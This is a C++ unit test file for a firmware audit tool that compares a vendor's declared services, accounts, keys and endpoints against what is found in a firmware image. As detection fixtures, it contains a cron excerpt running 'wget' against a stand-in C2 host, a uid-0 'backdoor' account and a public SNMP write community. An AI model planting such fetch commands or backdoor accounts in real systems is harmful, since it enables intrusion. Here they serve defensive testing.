// Unit tests of the pledge: ParsePledge (one test per rejection reason), the MUD subset, and
// ApplyPledge over hand-made observations and over a real account check (RunAudit).
#include "clearbox/audit/pledge.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <algorithm>
#include <nlohmann/json.hpp>

#include "audit/pledge_apply.h"
#include "audit/test_image.h"
#include "clearbox/audit/check.h"
#include "clearbox/core/file.h"

namespace clearbox::audit {
namespace {

using ::testing::ElementsAre;
using ::testing::HasSubstr;
using ::testing::IsEmpty;
using ::testing::SizeIs;
using json = nlohmann::ordered_json;

json Example() {
  Result<std::string> text =
      ReadTextFile(std::string(CLEARBOX_SOURCE_DIR) + "/docs/examples/pledge.json");
  EXPECT_TRUE(text.ok());
  return json::parse(text.ok() ? *text : "{}");
}

// The error ParsePledge gives for `doc` (or "" when it parses).
std::string ErrorOf(const json& doc) {
  Result<Pledge> p = ParsePledge(doc.dump(), "pledge.json");
  if (p.ok()) return "";
  EXPECT_EQ(p.error().code(), ErrorCode::kInvalidInput);
  return p.error().message();
}

TEST(ParsePledge, TheDocumentedExample) {
  Result<Pledge> p = ParsePledge(Example().dump(), "pledge.json");
  ASSERT_TRUE(p.ok()) << p.error().message();
  EXPECT_EQ(p->vendor, "Example Networks");
  EXPECT_EQ(p->product, "EX-1000 edge router");
  EXPECT_THAT(p->versions, ElementsAre("2.4.0", "2.4.1"));
  ASSERT_THAT(p->services, SizeIs(4));
  EXPECT_EQ(p->services[0].name, "dropbear");
  EXPECT_THAT(p->services[0].ports, ElementsAre(22));
  EXPECT_THAT(p->services[0].protocols, ElementsAre("tcp"));
  EXPECT_THAT(p->services[0].logins, ElementsAre("admin"));
  EXPECT_THAT(p->services[3].ports, IsEmpty());  // a console
  ASSERT_THAT(p->accounts, SizeIs(3));
  EXPECT_EQ(p->accounts[1].uid, 1000u);
  EXPECT_TRUE(p->accounts[1].password_set);
  EXPECT_FALSE(p->accounts[2].password_set);
  ASSERT_THAT(p->keys, SizeIs(2));
  EXPECT_EQ(p->keys[0].fingerprint, "SHA256:47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU");
  EXPECT_TRUE(p->mud_embedded);
  EXPECT_EQ(p->mud_url, "https://mud.example-networks.example/ex-1000.json");
  // The from-device ACEs only: the to-device ACL's source name is not an endpoint.
  ASSERT_THAT(p->endpoints, SizeIs(4));
  EXPECT_EQ(p->endpoints[0].host, "update.example-networks.example");
  EXPECT_EQ(p->endpoints[0].protocol, "tcp");
  EXPECT_EQ(p->endpoints[0].port_min, 443);
  EXPECT_EQ(p->endpoints[0].port_max, 443);
  EXPECT_EQ(p->endpoints[0].acl, "ex1000-from-v4/updates");
  EXPECT_EQ(p->endpoints[1].host, "*.pool.ntp.org");
  EXPECT_EQ(p->endpoints[2].host, "192.0.2.0/24");
  EXPECT_EQ(p->endpoints[2].port_min, 514);
  EXPECT_EQ(p->endpoints[2].port_max, 515);
  EXPECT_EQ(p->endpoints[3].acl, "ex1000-from-v6/updates-v6");
  EXPECT_EQ(p->maintenance.procedure, "operator-approved");
  EXPECT_EQ(p->maintenance.approvals_required, 2u);
  EXPECT_EQ(p->maintenance.approvers, 3u);
  EXPECT_TRUE(p->no_other_ways_in);
}

TEST(ParsePledge, PortOutOfRangeNamesFileAndPath) {
  json doc = Example();
  doc["services"][2]["ports"][0] = 70000;
  EXPECT_EQ(ErrorOf(doc), "pledge.json: /services/2/ports/0: 70000 is not a port (1-65535)");
  doc["services"][2]["ports"][0] = 0;
  EXPECT_EQ(ErrorOf(doc), "pledge.json: /services/2/ports/0: 0 is not a port (1-65535)");
}

TEST(ParsePledge, UnknownField) {
  json doc = Example();
  doc["services"][0]["colour"] = "red";
  EXPECT_THAT(ErrorOf(doc), HasSubstr("pledge.json: /services/0/colour: unknown field"));
  doc = Example();
  doc["signature"] = "x";
  EXPECT_THAT(ErrorOf(doc), HasSubstr("pledge.json: /signature: unknown field"));
}

TEST(ParsePledge, UnknownFieldWithSlashIsEscapedInThePointer) {
  json doc = Example();
  doc["accounts"][0]["a/b~c"] = 1;
  EXPECT_THAT(ErrorOf(doc), HasSubstr("/accounts/0/a~1b~0c: unknown field"));
}

TEST(ParsePledge, WrongType) {
  json doc = Example();
  doc["accounts"][1]["uid"] = "1000";
  EXPECT_EQ(ErrorOf(doc), "pledge.json: /accounts/1/uid: expected an integer, got string");
  doc = Example();
  doc["accounts"][1]["password_set"] = "yes";
  EXPECT_EQ(ErrorOf(doc),
            "pledge.json: /accounts/1/password_set: expected true or false, got string");
  doc = Example();
  doc["services"] = json::object();
  EXPECT_EQ(ErrorOf(doc), "pledge.json: /services: expected an array, got object");
  EXPECT_THAT(ErrorOf(json::array()), HasSubstr("pledge.json: /: expected an object, got array"));
}

TEST(ParsePledge, MissingRequiredField) {
  json doc = Example();
  doc["keys"][0].erase("purpose");
  EXPECT_EQ(ErrorOf(doc), "pledge.json: /keys/0: missing required field 'purpose'");
  doc = Example();
  doc.erase("no_other_ways_in");
  EXPECT_EQ(ErrorOf(doc), "pledge.json: /: missing required field 'no_other_ways_in'");
}

TEST(ParsePledge, UidOutOfRange) {
  json doc = Example();
  doc["accounts"][0]["uid"] = 4294967295u;
  EXPECT_EQ(ErrorOf(doc), "pledge.json: /accounts/0/uid: 4294967295 is not a uid (0-4294967294)");
  doc["accounts"][0]["uid"] = -1;
  EXPECT_EQ(ErrorOf(doc), "pledge.json: /accounts/0/uid: -1 is not a uid (0-4294967294)");
  doc["accounts"][0]["uid"] = 1.5;
  EXPECT_EQ(ErrorOf(doc), "pledge.json: /accounts/0/uid: expected an integer, got number");
}

TEST(ParsePledge, DuplicateNames) {
  json doc = Example();
  doc["accounts"][2]["name"] = "root";
  EXPECT_EQ(ErrorOf(doc),
            "pledge.json: /accounts/2/name: account 'root' is declared twice (first at "
            "/accounts/0/name)");
  doc = Example();
  doc["services"][1]["name"] = "dropbear";
  EXPECT_THAT(ErrorOf(doc), HasSubstr("/services/1/name: service 'dropbear' is declared twice"));
  doc = Example();
  doc["keys"][1]["fingerprint"] = doc["keys"][0]["fingerprint"];
  EXPECT_THAT(ErrorOf(doc), HasSubstr("/keys/1/fingerprint: key 'SHA256:"));
  doc = Example();
  doc["services"][0]["ports"] = {22, 22};
  EXPECT_EQ(ErrorOf(doc), "pledge.json: /services/0/ports/1: port 22 is listed twice");
}

TEST(ParsePledge, DuplicateKeyInAnObject) {
  EXPECT_EQ(ParsePledge(R"({"pledge_version": 1, "pledge_version": 1})", "p.json")
                .error()
                .message(),
            R"(p.json: key "pledge_version" appears twice in one object)");
}

TEST(ParsePledge, LoginMustBeADeclaredAccount) {
  json doc = Example();
  doc["services"][1]["logins"] = {"admin", "bob"};
  EXPECT_EQ(ErrorOf(doc),
            "pledge.json: /services/1/logins/1: 'bob' is not a declared account (/accounts)");
}

TEST(ParsePledge, ValuesOfTheWrongForm) {
  json doc = Example();
  doc["services"][0]["name"] = "/usr/sbin/dropbear";
  EXPECT_THAT(ErrorOf(doc), HasSubstr("/services/0/name: '/usr/sbin/dropbear' is not a program"));
  doc = Example();
  doc["services"][0]["protocols"] = {"tcp", "icmp"};
  EXPECT_THAT(ErrorOf(doc), HasSubstr("/services/0/protocols/1: 'icmp' is not a protocol"));
  doc = Example();
  doc["keys"][0]["fingerprint"] = "MD5:aa:bb";
  EXPECT_THAT(ErrorOf(doc), HasSubstr("/keys/0/fingerprint: 'MD5:aa:bb' is not a SHA-256"));
  doc = Example();
  doc["accounts"][0]["name"] = "ro ot";
  EXPECT_THAT(ErrorOf(doc), HasSubstr("/accounts/0/name: 'ro ot' is not an account name"));
  doc = Example();
  doc["product"]["name"] = "";
  EXPECT_EQ(ErrorOf(doc), "pledge.json: /product/name: must not be empty");
  doc = Example();
  doc["product"]["versions"] = json::array();
  EXPECT_EQ(ErrorOf(doc), "pledge.json: /product/versions: needs at least 1 item");
}

TEST(ParsePledge, PortsAndProtocolsGoTogether) {
  json doc = Example();
  doc["services"][0].erase("protocols");
  EXPECT_EQ(ErrorOf(doc), "pledge.json: /services/0: ports need 'protocols' (tcp, udp, sctp)");
}

TEST(ParsePledge, StatementAndVersion) {
  json doc = Example();
  doc["no_other_ways_in"] = false;
  EXPECT_THAT(ErrorOf(doc), HasSubstr("/no_other_ways_in: must be true"));
  doc = Example();
  doc["pledge_version"] = 2;
  EXPECT_EQ(ErrorOf(doc), "pledge.json: /pledge_version: 2 is not a pledge format version (1-1)");
}

TEST(ParsePledge, Maintenance) {
  json doc = Example();
  doc["maintenance"].erase("approvals");
  EXPECT_THAT(ErrorOf(doc), HasSubstr("/maintenance: operator-approved needs 'approvals'"));
  doc = Example();
  doc["maintenance"]["approvals"]["required"] = 4;
  EXPECT_EQ(ErrorOf(doc),
            "pledge.json: /maintenance/approvals/required: 4 approvals required of only 3 "
            "approvers");
  doc = Example();
  doc["maintenance"]["procedure"] = "whenever";
  EXPECT_THAT(ErrorOf(doc), HasSubstr("/maintenance/procedure: 'whenever' is not a procedure"));
  doc["maintenance"]["procedure"] = "none";
  EXPECT_THAT(ErrorOf(doc), HasSubstr("/maintenance/approvals: only an operator-approved"));
}

TEST(ParsePledge, OutboundIsEmbeddedOrReferenced) {
  json doc = Example();
  doc["outbound"]["mud_url"] = "https://mud.example/x.json";
  EXPECT_THAT(ErrorOf(doc), HasSubstr("/outbound: needs exactly one of 'mud'"));
  doc = Example();
  doc["outbound"] = {{"mud_url", "http://mud.example/x.json"}};
  EXPECT_THAT(ErrorOf(doc), HasSubstr("/outbound/mud_url: 'http://mud.example/x.json' is not an "
                                      "https:// URL"));
  doc["outbound"] = {{"mud_url", "https://mud.example/x.json"}};
  Result<Pledge> p = ParsePledge(doc.dump(), "pledge.json");
  ASSERT_TRUE(p.ok()) << p.error().message();
  EXPECT_FALSE(p->mud_embedded);
  EXPECT_EQ(p->mud_url, "https://mud.example/x.json");
  EXPECT_THAT(p->endpoints, IsEmpty());
}

TEST(ParsePledge, MudProfileIsReadByTheWatchParser) {
  const std::string mud = "/outbound/mud/";
  json doc = Example();
  auto& acls = doc["outbound"]["mud"]["ietf-access-control-list:acls"]["acl"];
  acls[0]["name"] = "renamed";
  EXPECT_THAT(ErrorOf(doc),
              HasSubstr(mud + "ietf-mud:mud/from-device-policy/access-lists/access-list/0/name: "
                              "ACL \"ex1000-from-v4\" is not in ietf-access-control-list:acls"));
  doc = Example();
  auto& ace = doc["outbound"]["mud"]["ietf-access-control-list:acls"]["acl"][0]["aces"]["ace"][0];
  ace["matches"]["ipv4"]["ietf-acldns:dst-dnsname"] = "bad name!";
  EXPECT_THAT(ErrorOf(doc), HasSubstr("/matches/ipv4/ietf-acldns:dst-dnsname: \"bad name!\" is "
                                      "not a host name"));
  ace["matches"]["ipv4"]["ietf-acldns:dst-dnsname"] = "update.example";
  ace["matches"]["tcp"]["destination-port"]["port"] = 65536;
  EXPECT_THAT(ErrorOf(doc), HasSubstr("/destination-port/port: 65536 is out of range (0-65535)"));
  ace["matches"]["tcp"]["destination-port"] = {{"lower-port", 9}, {"upper-port", 8}};
  EXPECT_THAT(ErrorOf(doc), HasSubstr("/destination-port/upper-port: upper-port 8 is below lower-port 9"));
  // A dropped ACE is no endpoint; every RFC 8520 member is read (watch's parser), known or not.
  ace["matches"]["tcp"]["destination-port"] = {{"operator", "eq"}, {"port", 443}};
  ace["actions"]["forwarding"] = "drop";
  doc["outbound"]["mud"]["ietf-mud:mud"]["documentation"] = "https://example/doc";
  Result<Pledge> p = ParsePledge(doc.dump(), "pledge.json");
  ASSERT_TRUE(p.ok()) << p.error().message();
  EXPECT_THAT(p->endpoints, SizeIs(3));
  doc["outbound"]["mud"].erase("ietf-access-control-list:acls");
  EXPECT_THAT(ErrorOf(doc), HasSubstr("/outbound/mud/ietf-mud:mud/from-device-policy/access-lists/"
                                      "access-list/0/name: ACL \"ex1000-from-v4\" is not in "
                                      "ietf-access-control-list:acls"));
  // A member RFC 8520 does not define is refused, not ignored: a typo must not widen the
  // declared policy.
  doc = Example();
  doc["outbound"]["mud"]["ietf-mud:mud"]["from-device-polcy"] = json::object();
  EXPECT_THAT(ErrorOf(doc), HasSubstr("/outbound/mud/ietf-mud:mud/from-device-polcy: unknown"));
}

TEST(ParsePledge, ReportsManyProblemsAtOnce) {
  json doc = Example();
  for (int i = 0; i < 30; ++i) doc["services"][0]["x" + std::to_string(i)] = i;
  std::string e = ErrorOf(doc);
  EXPECT_EQ(std::count(e.begin(), e.end(), '\n'), static_cast<long>(kMaxPledgeErrors));
  EXPECT_THAT(e, HasSubstr("pledge.json: and 10 more problems"));
}

TEST(ParsePledge, HostileDocuments) {
  auto message = [](std::string_view text) {
    Result<Pledge> p = ParsePledge(text, "p.json");
    return p.ok() ? std::string() : p.error().message();
  };
  EXPECT_THAT(message("not json"), HasSubstr("p.json: not JSON: "));
  EXPECT_THAT(message(""), HasSubstr("p.json: not JSON: "));
  EXPECT_THAT(message(std::string("{\"a\":\"\xff\"}")), HasSubstr("p.json: not JSON: "));
  EXPECT_EQ(message(std::string(100000, '[') + std::string(100000, ']')),
            "p.json: nested deeper than 64 levels");
  EXPECT_THAT(message(std::string(kMaxPledgeBytes + 1, ' ')),
              HasSubstr("bytes: a pledge is at most"));
  EXPECT_THAT(message("{\"product\": \"\x01\"}"), HasSubstr("not JSON"));
  std::string long_key = "{\"" + std::string(1000, 'k') + "\": 1}";
  EXPECT_THAT(message(long_key), HasSubstr("unknown field"));
}

// ApplyPledge over hand-made observations.

Evidence At(std::string path, uint64_t offset, std::string excerpt) {
  return {"fw.bin!squashfs:" + path, path, offset, std::move(excerpt)};
}

Observation Seen(ObservationKind kind, std::string name, std::vector<uint16_t> ports,
                 std::string detail, Evidence evidence, std::string check = "CB-TEST-000") {
  Observation o;
  o.kind = kind;
  o.name = std::move(name);
  o.protocol = ports.empty() ? "" : "tcp";
  o.ports = std::move(ports);
  o.detail = std::move(detail);
  o.evidence = std::move(evidence);
  o.check_id = std::move(check);
  return o;
}

Pledge ExamplePledge() {
  Result<Pledge> p = ParsePledge(Example().dump(), "pledge.json");
  EXPECT_TRUE(p.ok());
  return p.ok() ? *p : Pledge{};
}

std::vector<std::string> Messages(const AuditReport& r) {
  std::vector<std::string> out;
  for (const Finding& f : r.findings) out.push_back(f.check_id + " " + f.message);
  return out;
}

const PledgeItem* Item(const AuditReport& r, ObservationKind kind, std::string_view name) {
  for (const PledgeItem& i : r.pledge_items) {
    if (i.kind == kind && i.name == name) return &i;
  }
  return nullptr;
}

TEST(ApplyPledge, UndeclaredServiceReadsLikeTheIssue) {
  AuditReport r;
  r.observations.push_back(Seen(ObservationKind::kService, "telnetd", {23},
                                "started by /etc/init.d/S50telnet line 4",
                                At("/etc/init.d/S50telnet", 60, "telnetd -p 23")));
  internal::ApplyPledge(ExamplePledge(), r);
  ASSERT_THAT(r.findings, SizeIs(1));
  EXPECT_EQ(r.findings[0].check_id, "CB-PLEDGE-001");
  EXPECT_EQ(r.findings[0].severity, Severity::kHigh);
  EXPECT_EQ(r.findings[0].message,
            "pledge broken: undeclared telnetd on port 23 started by /etc/init.d/S50telnet line 4");
  EXPECT_EQ(r.findings[0].evidence[0].path, "/etc/init.d/S50telnet");
  EXPECT_EQ(r.findings[0].evidence[0].offset, 60u);
}

TEST(ApplyPledge, DeclaredServiceKeptOrBroken) {
  AuditReport r;
  r.observations.push_back(Seen(ObservationKind::kService, "dropbear", {22},
                                "started by /etc/init.d/dropbear line 9",
                                At("/etc/init.d/dropbear", 200, "dropbear -s -p 22")));
  r.observations.push_back(Seen(ObservationKind::kService, "uhttpd", {443, 8080},
                                "started by /etc/init.d/uhttpd line 3",
                                At("/etc/init.d/uhttpd", 30, "uhttpd -p 8080")));
  Observation insecure = Seen(ObservationKind::kService, "snmpd", {161}, "with community public",
                              At("/etc/snmpd.conf", 0, "rwcommunity public"), "CB-CONF-002");
  insecure.insecure = true;
  r.observations.push_back(insecure);
  internal::ApplyPledge(ExamplePledge(), r);
  EXPECT_THAT(Messages(r),
              ElementsAre("CB-PLEDGE-005 pledge broken: uhttpd listens on port 8080, which the "
                          "pledge does not declare (declared port 443/tcp) started by "
                          "/etc/init.d/uhttpd line 3",
                          "CB-PLEDGE-005 pledge broken: declared snmpd is insecure as started (see "
                          "CB-CONF-002), started by /etc/snmpd.conf (with community public)"));
  const PledgeItem* dropbear = Item(r, ObservationKind::kService, "dropbear");
  ASSERT_NE(dropbear, nullptr);
  EXPECT_TRUE(dropbear->found);
  EXPECT_EQ(dropbear->detail,
            "declared port 22/tcp; found started by /etc/init.d/dropbear line 9");
  ASSERT_THAT(dropbear->evidence, SizeIs(1));
  EXPECT_EQ(dropbear->evidence[0].path, "/etc/init.d/dropbear");
  EXPECT_FALSE(Item(r, ObservationKind::kService, "uhttpd")->found);
  const PledgeItem* getty = Item(r, ObservationKind::kService, "getty");
  ASSERT_NE(getty, nullptr);
  EXPECT_FALSE(getty->found);
  EXPECT_EQ(getty->detail, "declared with no listening port; not found in the image");
}

TEST(ApplyPledge, ServicePortsUnknownOnOneSideMatchByName) {
  AuditReport r;
  r.observations.push_back(Seen(ObservationKind::kService, "dropbear", {}, "started by inittab",
                                At("/etc/inittab", 0, "::respawn:/usr/sbin/dropbear")));
  internal::ApplyPledge(ExamplePledge(), r);
  EXPECT_THAT(r.findings, IsEmpty());
  EXPECT_TRUE(Item(r, ObservationKind::kService, "dropbear")->found);
}

TEST(ApplyPledge, Accounts) {
  AuditReport r;
  auto account = [&](std::string name, std::string detail, bool insecure = false) {
    Observation o = Seen(ObservationKind::kAccount, name, {}, detail,
                         At("/etc/shadow", 10, name + ":$6$…"), "CB-ACCT-000");
    o.insecure = insecure;
    r.observations.push_back(o);
  };
  account("root", "uid 0, password set, shell /bin/sh");        // kept
  account("admin", "uid 0, password set, shell /bin/sh");       // uid differs
  account("maint", "uid 1001, password set, shell /bin/sh");    // declared without password
  account("backdoor", "uid 0, password set, shell /bin/sh");    // undeclared
  internal::ApplyPledge(ExamplePledge(), r);
  EXPECT_THAT(Messages(r),
              ElementsAre("CB-PLEDGE-006 pledge broken: account 'admin' has uid 0, the pledge "
                          "declares uid 1000",
                          "CB-PLEDGE-006 pledge broken: account 'maint' logs in with a password, "
                          "the pledge declares none",
                          "CB-PLEDGE-002 pledge broken: undeclared account 'backdoor' (uid 0, "
                          "password set, shell /bin/sh)"));
  EXPECT_TRUE(Item(r, ObservationKind::kAccount, "root")->found);
  EXPECT_FALSE(Item(r, ObservationKind::kAccount, "admin")->found);

  AuditReport empty;
  account("root", "uid 0, no password, shell /bin/sh", true);
  empty.observations.push_back(r.observations.back());
  internal::ApplyPledge(ExamplePledge(), empty);
  EXPECT_THAT(Messages(empty), ElementsAre("CB-PLEDGE-006 pledge broken: account 'root' logs in "
                                           "with no password at all"));
  EXPECT_THAT(Item(empty, ObservationKind::kAccount, "maint")->detail,
              HasSubstr("locked or absent"));
}

TEST(ApplyPledge, KeysByFingerprintGroupedByKey) {
  const std::string declared = "SHA256:47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU";
  const std::string other = "SHA256:AAAAQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU";
  AuditReport r;
  r.observations.push_back(Seen(ObservationKind::kKey, declared + "=", {}, "RSA 2048",
                                At("/etc/keys/update.key", 0, "-----BEGIN")));
  r.observations.push_back(
      Seen(ObservationKind::kKey, other, {}, "ECDSA P-256", At("/etc/ssl/a.key", 0, "-----BEGIN")));
  r.observations.push_back(Seen(ObservationKind::kKey, other, {}, "ECDSA P-256",
                                At("/usr/bin/agent", 4096, "DER at 0x1000")));
  internal::ApplyPledge(ExamplePledge(), r);
  ASSERT_THAT(r.findings, SizeIs(1));
  EXPECT_EQ(r.findings[0].check_id, "CB-PLEDGE-003");
  EXPECT_EQ(r.findings[0].severity, Severity::kMedium);
  EXPECT_EQ(r.findings[0].message,
            "pledge broken: undeclared private key " + other + " ECDSA P-256 (and 1 more places)");
  EXPECT_THAT(r.findings[0].evidence, SizeIs(2));
  EXPECT_TRUE(Item(r, ObservationKind::kKey, declared)->found);
}

TEST(ApplyPledge, EndpointsByNameWildcardAndNetwork) {
  AuditReport r;
  for (std::string host : {"update.example-networks.example", "UPDATE.example-networks.example.",
                           "0.pool.ntp.org", "192.0.2.77", "evil.example", "pool.ntp.org"}) {
    r.observations.push_back(Seen(ObservationKind::kEndpoint, host, {}, "in /etc/agent.conf",
                                  At("/etc/agent.conf", 0, host)));
  }
  r.observations.push_back(Seen(ObservationKind::kEndpoint, "192.0.2.8", {8443}, "", At("/x", 0, "")));
  internal::ApplyPledge(ExamplePledge(), r);
  EXPECT_THAT(Messages(r),
              ElementsAre("CB-PLEDGE-004 pledge broken: undeclared endpoint evil.example in "
                          "/etc/agent.conf",
                          "CB-PLEDGE-004 pledge broken: undeclared endpoint pool.ntp.org in "
                          "/etc/agent.conf",
                          "CB-PLEDGE-004 pledge broken: undeclared endpoint 192.0.2.8"));
  EXPECT_TRUE(Item(r, ObservationKind::kEndpoint, "*.pool.ntp.org")->found);
  EXPECT_TRUE(Item(r, ObservationKind::kEndpoint, "192.0.2.0/24")->found);
}

TEST(ApplyPledge, EndpointOnlyInProgramStringsIsLowSeverity) {
  AuditReport r;
  Observation in_program = Seen(ObservationKind::kEndpoint, "www.gnu.org", {},
                                "hard-coded in program /bin/ls", At("/bin/ls", 9, "www.gnu.org"));
  in_program.in_program_strings = true;
  r.observations.push_back(in_program);
  Observation in_script = Seen(ObservationKind::kEndpoint, "c2.evil.net", {}, "in /etc/cron",
                               At("/etc/cron", 0, "wget http://c2.evil.net"));
  r.observations.push_back(in_script);
  in_script.evidence = At("/usr/bin/agent", 3, "c2.evil.net");
  in_script.in_program_strings = true;
  r.observations.push_back(in_script);  // also in a program: still medium
  internal::ApplyPledge(ExamplePledge(), r);
  ASSERT_EQ(r.findings.size(), 2u);
  for (const Finding& f : r.findings) {
    const bool gnu = f.message.find("www.gnu.org") != std::string::npos;
    EXPECT_EQ(f.severity, gnu ? Severity::kLow : Severity::kMedium) << f.message;
  }
}

TEST(ApplyPledge, AllowListedObservationsAreNotJudged) {
  AuditReport r;
  r.observations.push_back(Seen(ObservationKind::kEndpoint, "collector.partner.example", {}, "",
                                At("/etc/agent.conf", 0, "")));
  r.observations.push_back(Seen(ObservationKind::kKey, "SHA256:x", {}, "",
                                At("/etc/ssl/private/test-only.pem", 0, ""), "CB-KEY-001"));
  Result<AllowList> allow = AllowList::Parse(
      "endpoint *.partner.example\npath /etc/ssl/private/* CB-KEY-001\n", "allow.txt");
  ASSERT_TRUE(allow.ok());
  internal::ApplyPledge(ExamplePledge(), *allow, r);
  EXPECT_THAT(r.findings, IsEmpty());
}

TEST(ApplyPledge, ReferencedMudProfileLeavesEndpointsUnjudged) {
  json doc = Example();
  doc["outbound"] = {{"mud_url", "https://mud.example/ex.json"}};
  Result<Pledge> p = ParsePledge(doc.dump(), "pledge.json");
  ASSERT_TRUE(p.ok());
  AuditReport r;
  r.observations.push_back(
      Seen(ObservationKind::kEndpoint, "evil.example", {}, "", At("/etc/agent.conf", 0, "")));
  internal::ApplyPledge(*p, r);
  EXPECT_THAT(r.findings, IsEmpty());
  ASSERT_THAT(r.notes, SizeIs(1));
  EXPECT_THAT(r.notes[0].message, HasSubstr("https://mud.example/ex.json"));
}

TEST(ApplyPledge, MatchingHelpers) {
  Pledge::Endpoint e;
  e.host = "*.Vendor.example";
  EXPECT_TRUE(internal::EndpointMatches(e, "a.b.vendor.example."));
  EXPECT_FALSE(internal::EndpointMatches(e, "vendor.example.evil"));
  e.host = "2001:db8::/32";
  EXPECT_TRUE(internal::EndpointMatches(e, "2001:db8::1"));
  EXPECT_FALSE(internal::EndpointMatches(e, "2001:db9::1"));
  EXPECT_EQ(internal::ObservedUid("uid 1000, password set"), 1000);
  EXPECT_EQ(internal::ObservedUid("uid x"), -1);
  EXPECT_EQ(internal::ObservedUid("started by inittab"), -1);
  EXPECT_EQ(internal::ObservedUid("uid 99999999999"), -1);
}

// End to end: the account check's observations judged through RunAudit.
TEST(ApplyPledge, ThroughRunAuditWithAccountObservations) {
  inventory::Inventory inv;
  inv.image = "fw.bin";
  auto add = [&](std::string path, std::string text) {
    inv.files.push_back(test::TextFile(std::move(path), std::move(text)));
  };
  add("/etc/passwd",
      "root:x:0:0:root:/root:/bin/sh\n"
      "admin:x:1000:100:admin:/home/admin:/bin/sh\n"
      "support:x:0:0:support:/root:/bin/sh\n");
  add("/etc/shadow",
      "root:$6$abcdefgh$0123456789012345678901234567890123456789012345678901234567890123456789"
      "0123456789012345:19675:0:99999:7:::\n"
      "admin:$6$abcdefgh$0123456789012345678901234567890123456789012345678901234567890123456789"
      "0123456789012345:19675:0:99999:7:::\n"
      "support:$6$abcdefgh$012345678901234567890123456789012345678901234567890123456789012345"
      "67890123456789012345:19675:0:99999:7:::\n");
  Pledge pledge = ExamplePledge();
  AuditOptions options;
  options.only = {"CB-ACCT-000"};
  options.pledge = &pledge;
  Result<AuditReport> r = RunAudit(inv, options);
  ASSERT_TRUE(r.ok());
  ASSERT_THAT(r->findings, SizeIs(1));
  EXPECT_EQ(r->findings[0].check_id, "CB-PLEDGE-002");
  EXPECT_THAT(r->findings[0].message, HasSubstr("undeclared account 'support'"));
  EXPECT_EQ(r->findings[0].evidence[0].path, "/etc/shadow");
  EXPECT_TRUE(Item(*r, ObservationKind::kAccount, "root")->found);
  EXPECT_TRUE(Item(*r, ObservationKind::kAccount, "admin")->found);
  nlohmann::json report = nlohmann::json::parse(AuditReportJson(*r));
  EXPECT_EQ(report["pledge"].size(), r->pledge_items.size());
}

TEST(PledgeChecks, RegisteredWithClauses) {
  for (std::string id : {"CB-PLEDGE-001", "CB-PLEDGE-002", "CB-PLEDGE-003", "CB-PLEDGE-004",
                         "CB-PLEDGE-005", "CB-PLEDGE-006"}) {
    const Check* c = FindCheck(id);
    ASSERT_NE(c, nullptr) << id;
    EXPECT_FALSE(c->ts33117_clause.empty()) << id;
    EXPECT_FALSE(c->remediation.empty()) << id;
  }
}

}  // namespace
}  // namespace clearbox::audit
